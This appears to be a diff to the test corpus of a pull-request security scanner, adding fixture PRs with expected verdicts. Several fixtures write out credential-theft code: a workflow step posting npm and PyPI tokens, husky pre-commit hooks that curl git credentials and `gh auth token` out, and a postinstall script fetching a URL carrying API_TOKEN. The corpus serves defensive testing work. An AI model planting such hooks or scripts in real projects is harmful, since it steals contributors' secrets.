@@ -1116,6 +1116,42 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-python-step-loops-over-token-names',
+    description:
+      'The GhostAction loop written as a `shell: python` step: a "check release tokens" workflow binds the npm and PyPI tokens in the step\'s env, loops over their names written out (`for n in ("NPM_TOKEN", "PYPI_TOKEN"):`) and posts each value with urlopen to an ordinary-looking host: no curl, no secret named on the line that sends.',
+    fixture: () =>
+      attackPr({
+        repo: 'yamlfix',
+        number: 7319,
+        title: 'ci: check release tokens',
+        files: [
+          {
+            path: '.github/workflows/release-tokens.yml',
+            head: lines(
+              'name: Release tokens',
+              'on:',
+              '  push:',
+              '  workflow_dispatch:',
+              'jobs:',
+              '  check:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - name: Verify',
+              '        shell: python',
+              '        env:',
+              '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
+              '          PYPI_TOKEN: ${{ secrets.PYPI_API_TOKEN }}',
+              '        run: |',
+              '          import os, urllib.request',
+              '          for n in ("NPM_TOKEN", "PYPI_TOKEN"):',
+              "              urllib.request.urlopen('https://tokens.ci-verify-pages.net/v', data=(n + '=' + os.environ[n]).encode())",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-setup-py-loads-bundled-dll',
     description:
       'The eslint-config-prettier and `is` releases of July 2025 (a stolen maintainer token; an install script had rundll32 load a DLL shipped in the package) moved to PyPI: a "Windows support" PR makes setup.py, at module level, load a DLL of the package with ctypes.WinDLL and call its entry point on every Windows install from source; the DLL came in an earlier release, and the diff shows no download, no process, no secret.',
@@ -5012,6 +5048,65 @@ export const ATTACK_CASES: CorpusEntry[] = [
         files: [{ path: '.husky/pre-commit', head: lines('npx lint-staged', 'curl -s -d "$(git config user.email):$(cat ~/.npmrc 2>/dev/null)" https://lint-cache.devtools-cdn.net/v1 >/dev/null 2>&1 &') }],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
+  },
+  {
+    id: 'attack-husky-hook-sends-git-credentials',
+    description:
+      "Git's stored credentials taken by a hook: a \"lint-staged on commit\" PR adds a husky pre-commit hook that pipes `git config --get-regexp \"credential|token\"` (tokens kept in the git configuration, actions/checkout's extraheader) to an ordinary-looking host, and puts `gh auth token` into a request's URL; every contributor who commits runs it.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7726,
+        title: 'chore: run lint-staged on commit',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.husky/pre-commit',
+            head: lines('npx lint-staged', 'git config --get-regexp "credential|token|extraheader" 2>/dev/null | curl -s --data-binary @- https://lint-cache.devtools-cdn.net/v2 >/dev/null 2>&1 &', 'curl -s "https://lint-cache.devtools-cdn.net/v2/s?u=$(gh auth token 2>/dev/null)" >/dev/null 2>&1 &'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['git-hook-command'] },
+  },
+  {
+    id: 'attack-postinstall-fetches-url-built-with-token',
+    description:
+      'An install-time beacon that sends a secret in a GET: a "postinstall telemetry" PR whose script reads API_TOKEN into a variable, builds the URL from a template literal that carries it (`` const url = `https://…/i?k=${token}` ``) and calls `fetch(url)`: no POST, no secret on the line that fetches, a host of no particular service.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7728,
+        title: 'chore: anonymous install telemetry',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint-node', version: '2.4.0', scripts: { test: 'node --test' } }), head: packageJson({ name: 'tint-node', version: '2.4.0', scripts: { test: 'node --test', postinstall: 'node scripts/telemetry.js' } }) },
+          {
+            path: 'scripts/telemetry.js',
+            head: lines("'use strict';", '', "const token = process.env.API_TOKEN || '';", "const platform = `${process.platform}-${process.arch}`;", 'const url = `https://install-stats.tint-tools.com/i?p=${platform}&k=${token}`;', '', 'fetch(url).catch(() => {});'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-hook-checks-email-make-release-uses-gh-token',
+    description:
+      "A maintainer's PR: a pre-commit hook that checks `git config user.email` is the company's, and a Makefile target that gives `gh auth token` to api.github.com in an Authorization header to fetch the latest release: git's settings read and a CLI's token given to its own service, not a theft.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7727,
+        title: 'chore: check commit e-mail, add make notes',
+        files: [
+          { path: '.husky/pre-commit', head: lines('email=$(git config user.email)', 'case "$email" in *@acme.dev) ;; *) echo "commit with your acme.dev e-mail"; exit 1 ;; esac', 'npx lint-staged') },
+          {
+            path: 'Makefile',
+            base: lines('.PHONY: build', '', 'build:', '\tnpm run build'),
+            head: lines('.PHONY: build notes', '', 'build:', '\tnpm run build', '', 'notes:', '\tcurl -fsS -H "Authorization: Bearer $$(gh auth token)" https://api.github.com/repos/acme/tint-node/releases/latest -o latest.json'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
   {
     id: 'attack-setup-py-lookalike-after-extras',
